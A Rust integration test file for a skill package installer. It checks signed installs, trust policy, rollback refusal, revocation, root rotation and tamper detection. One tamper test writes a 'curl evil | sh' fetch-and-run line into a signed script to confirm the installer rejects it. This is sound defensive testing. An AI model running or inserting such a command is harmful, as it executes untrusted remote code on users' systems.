//! Verified install end to end with real certificates: happy paths from a folder and a
//! `.tar.gz`, the trust policy, rollback protection, tampering, and re-verification after
//! revocation and root rotation.

use std::time::SystemTime;

use skillbox_core::skills::install::pack::pack;
use skillbox_core::skills::install::verify::{enforce, verify_installed, Status};
use skillbox_protocol::skill::{discover, DiscoveryOptions, Trust};

use super::harness::{write_skill, Workspace};

#[test]
fn install_signed_folder_records_lock_and_leaves_no_staging() {
    let ws = Workspace::new(true);
    let src = ws.signed_skill("crypto-price", "0.1.0", "");
    let done = ws.install(&src).unwrap();
    assert_eq!(done.name, "crypto-price");
    assert_eq!(done.entry.version.as_deref(), Some("0.1.0"));
    assert_eq!(done.entry.trust, Trust::Signed);
    assert_eq!(done.entry.publisher.as_deref(), Some("acme-skills"));
    assert!(done.entry.digest.starts_with("sha256:"));
    assert_eq!(ws.root_names(), [".skillbox-lock.json", "crypto-price"]);
    let lock = ws.lock();
    let entry = lock.get("crypto-price").unwrap();
    assert_eq!(entry, &done.entry);
    assert!(entry.root_fingerprint.is_some() && entry.leaf_fingerprint.is_some());
    let installed = ws.root().join("crypto-price");
    assert!(installed.join("SIGNATURE").is_file());
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(installed.join("scripts/run.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755, "modes are kept");
    let lock_mode = std::fs::metadata(ws.root().join(".skillbox-lock.json"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(lock_mode & 0o777, 0o644);
}

#[test]
fn install_signed_tar_gz_made_by_pack() {
    let ws = Workspace::new(true);
    let src = ws.signed_skill("weather", "1.2.3", "");
    let out = ws.scratch("out").join("weather-1.2.3.tar.gz");
    pack(&src, &out).unwrap();
    let done = ws.install(&out).unwrap();
    assert_eq!(done.entry.trust, Trust::Signed);
    assert!(ws.root().join("weather/scripts/run.sh").is_file());
    // Same package again: same version, same digest, accepted (idempotent).
    ws.install(&out).unwrap();
}

#[test]
fn install_unsigned_refused_when_require_signed() {
    let ws = Workspace::new(true);
    let src = ws.scratch("plain");
    write_skill(&src, "plain", "1.0.0", "");
    let err = ws.refused(&src, "unsigned");
    assert!(err.to_string().contains("require_signed"), "{err}");
}

#[test]
fn install_unsigned_allowed_as_local_when_not_required() {
    let ws = Workspace::new(false);
    let src = ws.scratch("plain");
    write_skill(&src, "plain", "1.0.0", "");
    let done = ws.install(&src).unwrap();
    assert_eq!(done.entry.trust, Trust::Local);
    assert!(done.entry.publisher.is_none());
    assert_eq!(ws.lock().get("plain").unwrap().trust, Trust::Local);
}

#[test]
fn install_refuses_rollback_to_lower_version() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("roll", "1.1.0", "")).unwrap();
    let err = ws.refused(&ws.signed_skill("roll", "1.0.9", "old"), "rollback");
    assert!(err.to_string().contains("1.1.0"), "{err}");
    assert_eq!(
        ws.lock().get("roll").unwrap().version.as_deref(),
        Some("1.1.0")
    );
}

#[test]
fn install_refuses_same_version_with_other_digest() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("same", "2.0.0", "")).unwrap();
    ws.refused(&ws.signed_skill("same", "2.0.0", "changed"), "same_version");
}

#[test]
fn install_upgrade_replaces_older_version() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("up", "1.0.0", "")).unwrap();
    let done = ws
        .install(&ws.signed_skill("up", "1.1.0", "newer"))
        .unwrap();
    assert_eq!(done.replaced.as_deref(), Some("1.0.0"));
    let script = std::fs::read_to_string(ws.root().join("up/scripts/run.sh")).unwrap();
    assert!(script.contains("newer"));
    assert_eq!(ws.root_names(), [".skillbox-lock.json", "up"]);
}

#[test]
fn install_refuses_file_changed_after_signing() {
    let ws = Workspace::new(true);
    let src = ws.signed_skill("tampered", "1.0.0", "");
    std::fs::write(src.join("scripts/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let err = ws.refused(&src, "digest");
    assert!(err.to_string().contains("do not match"), "{err}");
}

#[test]
fn install_refuses_signed_name_other_than_manifest() {
    let ws = Workspace::new(true);
    let src = ws.scratch("renamed");
    write_skill(&src, "renamed", "1.0.0", "");
    ws.sign(&src, "other-name", "1.0.0");
    ws.refused(&src, "name");
}

#[test]
fn install_refuses_package_from_unknown_root() {
    let ws = Workspace::new(true);
    let other = Workspace::new(true);
    let src = other.signed_skill("foreign", "1.0.0", "");
    ws.refused(&src, "chain");
}

#[test]
fn install_refuses_unmanaged_folder_of_same_name() {
    let ws = Workspace::new(false);
    write_skill(&ws.root().join("hand"), "hand", "0.1.0", "");
    let err = ws.refused(&ws.signed_skill("hand", "1.0.0", ""), "unmanaged");
    assert!(err.to_string().contains("hand"), "{err}");
}

#[test]
fn install_refuses_unsigned_over_signed() {
    let ws = Workspace::new(false);
    ws.install(&ws.signed_skill("down", "1.0.0", "")).unwrap();
    let src = ws.scratch("down-local");
    write_skill(&src, "down", "2.0.0", "");
    ws.refused(&src, "trust_downgrade");
}

#[test]
fn install_refuses_package_without_manifest() {
    let ws = Workspace::new(false);
    let src = ws.scratch("empty");
    std::fs::write(src.join("README"), b"nothing").unwrap();
    ws.refused(&src, "manifest");
}

#[test]
fn verify_reports_file_changed_after_install_and_enforce_disables_it() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("edited", "1.0.0", "")).unwrap();
    ws.install(&ws.signed_skill("intact", "1.0.0", "")).unwrap();
    std::fs::write(ws.root().join("edited/scripts/run.sh"), "#!/bin/sh\nevil\n").unwrap();
    let store = skillbox_certs::TrustStore::load(&ws.policy.trust_dir).unwrap();
    let reports = verify_installed(&ws.policy, &ws.lock(), Ok(&store), SystemTime::now());
    let edited = reports.iter().find(|r| r.name == "edited").unwrap();
    assert_eq!(edited.status, Status::Failed);
    assert_eq!(edited.check.as_deref(), Some("changed"));
    let intact = reports.iter().find(|r| r.name == "intact").unwrap();
    assert_eq!(intact.status, Status::Ok);

    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    let disabled = enforce(&mut catalog, &ws.policy, SystemTime::now());
    assert_eq!(disabled, ["edited"]);
    assert!(catalog.get("intact").is_some());
    assert_eq!(catalog.withheld[0].name, "edited");
    assert!(catalog.withheld[0]
        .reason
        .contains("files changed since install"));
}

#[test]
fn enforce_disables_unlisted_skill_when_require_signed() {
    let ws = Workspace::new(true);
    write_skill(&ws.root().join("dropped-in"), "dropped-in", "1.0.0", "");
    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    assert_eq!(
        enforce(&mut catalog, &ws.policy, SystemTime::now()),
        ["dropped-in"]
    );
    let mut relaxed = ws.policy.clone();
    relaxed.require_signed = false;
    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    assert!(enforce(&mut catalog, &relaxed, SystemTime::now()).is_empty());
}

#[test]
fn revoked_certificate_disables_skill_installed_before() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("revokee", "1.0.0", ""))
        .unwrap();
    let cert = std::fs::read_to_string(&ws.cert).unwrap();
    skillbox_certs::revoke(&ws.policy.trust_dir, &cert, "key leaked", &[]).unwrap();
    let store = skillbox_certs::TrustStore::load(&ws.policy.trust_dir).unwrap();
    let reports = verify_installed(&ws.policy, &ws.lock(), Ok(&store), SystemTime::now());
    assert_eq!(reports[0].status, Status::Failed);
    assert_eq!(reports[0].check.as_deref(), Some("revocation"));
    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    assert_eq!(
        enforce(&mut catalog, &ws.policy, SystemTime::now()),
        ["revokee"]
    );
    // And a new install of a package signed with it is refused.
    ws.refused(&ws.signed_skill("revokee2", "1.0.0", ""), "revocation");
}

#[test]
fn rotation_lists_skills_on_retiring_root_then_disables_them_when_retired() {
    let ws = Workspace::new(true);
    ws.install(&ws.signed_skill("skill-a", "1.0.0", ""))
        .unwrap();
    let statement = skillbox_certs::rotate_root(&ws.ca, &ws.policy.trust_dir, 30).expect("rotate");
    // A developer certificate under the new root signs skill B.
    let dev2 =
        skillbox_certs::issue_developer(&ws.ca, "acme-two", 30, &ws.path().join("dev2")).unwrap();
    let b = ws.scratch("skill-b");
    write_skill(&b, "skill-b", "1.0.0", "");
    ws.sign_with(&b, "skill-b", "1.0.0", &dev2.cert_path, &dev2.key_path);
    ws.install(&b).unwrap();

    let store = skillbox_certs::TrustStore::load(&ws.policy.trust_dir).unwrap();
    let reports = verify_installed(&ws.policy, &ws.lock(), Ok(&store), SystemTime::now());
    let a = reports.iter().find(|r| r.name == "skill-a").unwrap();
    let b_report = reports.iter().find(|r| r.name == "skill-b").unwrap();
    assert_eq!(a.status, Status::AtRisk, "{a:?}");
    assert_eq!(a.check.as_deref(), Some("retiring_root"));
    assert_eq!(b_report.status, Status::Ok, "{b_report:?}");
    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    assert!(enforce(&mut catalog, &ws.policy, SystemTime::now()).is_empty());

    skillbox_certs::retire_root(&ws.policy.trust_dir, &statement.old_root_fingerprint).unwrap();
    let store = skillbox_certs::TrustStore::load(&ws.policy.trust_dir).unwrap();
    let reports = verify_installed(&ws.policy, &ws.lock(), Ok(&store), SystemTime::now());
    let a = reports.iter().find(|r| r.name == "skill-a").unwrap();
    assert_eq!(a.status, Status::Failed);
    assert_eq!(a.check.as_deref(), Some("retired_root"));
    let b_report = reports.iter().find(|r| r.name == "skill-b").unwrap();
    assert_eq!(b_report.status, Status::Ok);
    let mut catalog = discover(&[ws.root().to_path_buf()], DiscoveryOptions::default());
    assert_eq!(
        enforce(&mut catalog, &ws.policy, SystemTime::now()),
        ["skill-a"]
    );
    assert!(catalog.get("skill-b").is_some());
}
